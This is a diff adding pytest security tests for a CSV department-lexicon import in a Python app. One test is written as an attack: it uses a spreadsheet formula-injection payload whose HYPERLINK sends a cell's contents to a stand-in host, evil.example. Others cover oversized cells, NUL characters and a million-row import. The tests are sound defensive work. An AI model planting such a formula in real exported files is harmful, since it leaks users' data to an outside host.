@@ -22,7 +22,9 @@ from sqlalchemy import select
 
 from app import sentinel
 from app.catalog import publish_to_catalog
-from app.db.models import CatalogEntry
+from app.checking import department_lexicon_csv, save_department_lexicon
+from app.db.models import CatalogEntry, User
+from app.errors import ValidationFailed
 from app.transfer import import_package
 from publish.portal import PortalClient, PortalError
 from publish.transfer import FORMAT, MANIFEST, SIGNATURE, TransferError, key_id, new_private_key, read_package
@@ -273,3 +275,44 @@ def test_attack_a_re_signed_entry_with_fields_of_the_wrong_type(
             import_package(online.workspace.db, online.publisher, package)
     with online.workspace.db.read() as s:
         assert s.scalars(select(CatalogEntry)).all() == []
+
+
+# -- department lexicons -------------------------------------------------------------------------------
+
+
+def _import_lexicon(workspace, people, content: bytes) -> Any:
+    with workspace.db.write() as s:
+        return save_department_lexicon(s, s.get_one(User, people.reviewer), content)
+
+
+def _stored(workspace, people) -> str:
+    with workspace.db.read() as s:
+        return department_lexicon_csv(s, s.get_one(User, people.reviewer).department_id)
+
+
+def test_attack_a_lexicon_term_that_is_a_formula_when_exported(workspace, people):
+    """A term the reviewer imports comes back in `lexicon export` as a CSV cell a spreadsheet runs."""
+    formula = '"=HYPERLINK(""http://evil.example/?""&A1,""点击"")"'
+    with pytest.raises(ValidationFailed, match="公式"):
+        _import_lexicon(workspace, people, f"词条,类别,级别\n{formula},其他,提示\n".encode())
+    assert "HYPERLINK" not in _stored(workspace, people)
+
+
+def test_lexicon_terms_that_are_huge_empty_or_carry_nul_and_bom(workspace, people):
+    with pytest.raises(ValidationFailed, match="单元格过长"):
+        _import_lexicon(workspace, people, ("词条,类别,级别\n" + "密" * 2**20 + ",其他,提示\n").encode())
+    with pytest.raises(ValidationFailed, match="控制字符"):
+        _import_lexicon(workspace, people, "词条,类别,级别\n内部\x00资料,其他,提示\n".encode())
+    assert _stored(workspace, people) == ""
+    _import_lexicon(workspace, people, "\ufeff词条,类别,级别\n,其他,提示\n 内部资料 ,其他,提示\n".encode())
+    assert _stored(workspace, people).splitlines()[1].startswith("内部资料,")  # BOM and blanks gone
+
+
+def test_attack_a_lexicon_of_a_million_rows(workspace, people):
+    """A million terms would make every later check build and run an automaton of that size."""
+    rows = "词条一,其他,提示\n" * 1_000_000
+    started = time.monotonic()
+    with pytest.raises(ValidationFailed, match="超过 16 MB"):
+        _import_lexicon(workspace, people, ("词条,类别,级别\n" + rows).encode())
+    assert time.monotonic() - started < 10
+    assert _stored(workspace, people) == ""
